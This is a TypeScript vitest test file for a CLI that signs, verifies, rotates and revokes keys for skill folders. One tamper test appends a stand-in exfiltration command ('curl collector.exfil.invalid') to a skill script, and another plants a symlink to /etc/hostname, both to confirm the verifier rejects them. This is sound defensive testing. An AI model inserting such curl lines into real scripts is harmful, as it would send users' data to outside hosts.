import { execFileSync, spawnSync } from "node:child_process";
import { existsSync, readFileSync, readdirSync, writeFileSync, appendFileSync, symlinkSync } from "node:fs";
import { join, resolve } from "node:path";
import { beforeAll, describe, expect, it, vi } from "vitest";

// Many CLI processes per test: allow for a loaded machine.
vi.setConfig({ testTimeout: 400_000 });
import { decryptSeed, parseKeyFile } from "../../src/signing/key-file.js";
import { tempDir, writeSkill } from "./helpers.js";

const REPO = resolve(import.meta.dirname, "..", "..");
const BIN = join(REPO, "dist", "bin", "skillsign.js");
const PASSPHRASE = "cli-test-passphrase-Zq7xW";

/** Every byte the CLI printed in this file, checked at the end for key material. */
const transcript: string[] = [];
let root: string;
let home: string;

function run(args: string[], env: Record<string, string | undefined> = {}) {
  const r = spawnSync(process.execPath, [BIN, ...args], {
    cwd: root,
    env: { ...process.env, SKILLSIGN_HOME: home, SKILLSIGN_KEY_PASSPHRASE: PASSPHRASE, SKILLSIGN_DEBUG: "1", ...env },
    encoding: "utf8",
  });
  transcript.push(r.stdout, r.stderr);
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

beforeAll(() => {
  // `npm test` builds first; build here only when dist is missing so a lone run works too.
  if (!existsSync(BIN)) execFileSync("npx", ["tsc", "-p", "tsconfig.json"], { cwd: REPO, stdio: "ignore" });
  root = tempDir("skillsign-cli-");
  home = tempDir("skillsign-cli-home-");
});

describe("skillsign keys / sign / verify through the CLI", () => {
  it("walks generate → sign → verify → tamper → rotate → revoke with the documented exit codes", () => {
    const keys = join(root, "keys");
    const gen = run(["keys", "generate", "--out", keys]);
    expect(gen.code).toBe(0);
    expect(readdirSync(keys).sort()).toEqual(["skillsign.key", "skillsign.pub", "trust.json"]);
    const firstId = JSON.parse(readFileSync(join(keys, "skillsign.pub"), "utf8")).keyId as string;
    expect(gen.stdout).toContain(firstId);

    const again = run(["keys", "generate", "--out", keys]);
    expect(again.code).toBe(2);
    expect(again.stderr).toContain("KEY_EXISTS");

    const skill = writeSkill(root, "cli-skill");
    const trust = join(keys, "trust.json");
    expect(run(["verify", skill, "--trust", trust]).code).toBe(1);

    const sign1 = run(["sign", skill, "--key", join(keys, "skillsign.key")]);
    expect(sign1.code).toBe(0);
    expect(sign1.stdout).toContain("sequence 1");
    expect(existsSync(`${skill}.skillsig.json`)).toBe(true);
    const sign2 = run(["sign", skill, "--key", join(keys, "skillsign.key")]);
    expect(sign2.stdout).toContain("sequence 2");

    const ok = run(["verify", skill, "--trust", trust, "--json"]);
    expect(ok.code).toBe(0);
    const okJson = JSON.parse(ok.stdout);
    expect(okJson).toMatchObject({ ok: true, reason: "ok", keyId: firstId, skill: { name: "cli-skill", sequence: 2 } });
    const statement = JSON.parse(Buffer.from(JSON.parse(readFileSync(`${skill}.skillsig.json`, "utf8")).payload, "base64").toString());
    expect(statement.predicate.approval).toEqual({ kind: "manual" });

    const list = run(["keys", "list", "--dir", keys, "--json"]);
    expect(list.code).toBe(0);
    expect(JSON.parse(list.stdout).keys).toEqual([expect.objectContaining({ keyId: firstId, status: "active" })]);

    const rot = run(["keys", "rotate", "--dir", keys]);
    expect(rot.code).toBe(0);
    expect(readdirSync(keys)).toContain(`${firstId}.key`);
    expect(run(["verify", skill, "--trust", trust]).code).toBe(0);

    // The signing keys cannot write revocation lists: that needs a revocation-role key.
    expect(run(["keys", "revoke", firstId, "--dir", keys]).stderr).toContain("NO_SIGNING_KEY");
    expect(run(["keys", "generate", "--out", keys, "--role", "revocation"]).code).toBe(0);
    const rev = run(["keys", "revoke", firstId, "--dir", keys, "--reason", "rotated out"]);
    expect(rev.code).toBe(0);
    expect(rev.stdout).toContain("version 1");
    const revoked = run(["verify", skill, "--trust", trust]);
    expect(revoked.code).toBe(1);
    expect(revoked.stdout).toMatch(/^revoked: /);
    expect(run(["keys", "list", "--trust", trust]).stdout).toMatch(new RegExp(`${firstId}\\s+revoked`));

    // Re-sign with the new key, then tamper: exit 1 with the typed reason.
    expect(run(["sign", skill, "--key", join(keys, "skillsign.key")]).code).toBe(0);
    expect(run(["verify", skill, "--trust", trust]).code).toBe(0);
    appendFileSync(join(skill, "scripts/run.sh"), "curl collector.exfil.invalid\n");
    const bad = run(["verify", skill, "--trust", trust, "--json"]);
    expect(bad.code).toBe(1);
    expect(JSON.parse(bad.stdout).reason).toBe("content-mismatch");

    // The private keys and the passphrase never appear in any output.
    for (const name of readdirSync(keys).filter((f) => f.endsWith(".key"))) {
      const seed = Buffer.from(decryptSeed(parseKeyFile(readFileSync(join(keys, name), "utf8"), name), PASSPHRASE));
      const all = transcript.join("\n");
      expect(all).not.toContain(seed.toString("hex"));
      expect(all).not.toContain(seed.toString("base64"));
      expect(all).not.toContain(seed.toString("base64url"));
    }
    expect(transcript.join("\n")).not.toContain(PASSPHRASE);
    // ~20 CLI processes: allow for a loaded machine.
  }, 400_000);

  it("refuses to sign or generate without SKILLSIGN_KEY_PASSPHRASE (exit 2)", () => {
    const keysDir = join(root, "nopass-keys");
    const r = run(["keys", "generate", "--out", keysDir], { SKILLSIGN_KEY_PASSPHRASE: undefined });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("PASSPHRASE_MISSING");
    expect(existsSync(join(keysDir, "skillsign.key"))).toBe(false);
    const s = run(["sign", writeSkill(root, "nopass-skill"), "--key", join(keysDir, "skillsign.key")], { SKILLSIGN_KEY_PASSPHRASE: "" });
    expect(s.code).toBe(2);
    expect(s.stderr).toContain("PASSPHRASE_MISSING");
  });

  it("refuses a wrong passphrase, a signature inside the folder, and a bad --sequence (exit 2)", () => {
    const keys = join(root, "keys2");
    expect(run(["keys", "generate", "--out", keys]).code).toBe(0);
    const skill = writeSkill(root, "refuse-skill");
    const wrong = run(["sign", skill, "--key", join(keys, "skillsign.key")], { SKILLSIGN_KEY_PASSPHRASE: "not-the-Passphrase-9" });
    expect(wrong.code).toBe(2);
    expect(wrong.stderr).toContain("KEY_DECRYPT_FAILED");
    expect(wrong.stderr).not.toContain("not-the-Passphrase-9");
    const inside = run(["sign", skill, "--key", join(keys, "skillsign.key"), "--out", join(skill, "sig.json")]);
    expect(inside.code).toBe(2);
    expect(existsSync(join(skill, "sig.json"))).toBe(false);
    expect(run(["sign", skill, "--key", join(keys, "skillsign.key"), "--sequence", "0"]).code).toBe(2);
    expect(run(["sign", skill, "--key", join(keys, "skillsign.key"), "--sequence", "7"]).stdout).toContain("sequence 7");
  });

  it("verify: garbage signature exits 1 (malformed), missing trust file and hostile folder exit 2", () => {
    const keys = join(root, "keys3");
    run(["keys", "generate", "--out", keys]);
    const skill = writeSkill(root, "garbage-skill");
    writeFileSync(`${skill}.skillsig.json`, "{garbage");
    const g = run(["verify", skill, "--trust", join(keys, "trust.json")]);
    expect(g.code).toBe(1);
    expect(g.stdout).toMatch(/^malformed: /);
    const missing = run(["verify", skill, "--trust", join(keys, "nope.json")]);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain("FILE_NOT_FOUND");
    const trustPath = join(keys, "trust.json");
    const brokenTrust = join(keys, "broken-trust.json");
    writeFileSync(brokenTrust, JSON.stringify({ ...JSON.parse(readFileSync(trustPath, "utf8")), revocations: "missing-revocations.json" }));
    const listBroken = run(["keys", "list", "--trust", brokenTrust]);
    expect(listBroken.code).toBe(2);
    expect(listBroken.stderr).toContain("TRUST_FILE_INVALID");
    const hostile = writeSkill(root, "hostile-skill");
    expect(run(["sign", hostile, "--key", join(keys, "skillsign.key")]).code).toBe(0);
    symlinkSync("/etc/hostname", join(hostile, "references", "link.md"));
    const h = run(["verify", hostile, "--trust", join(keys, "trust.json")]);
    expect(h.code).toBe(2);
    expect(h.stderr).toContain("SYMLINK");
  });
});
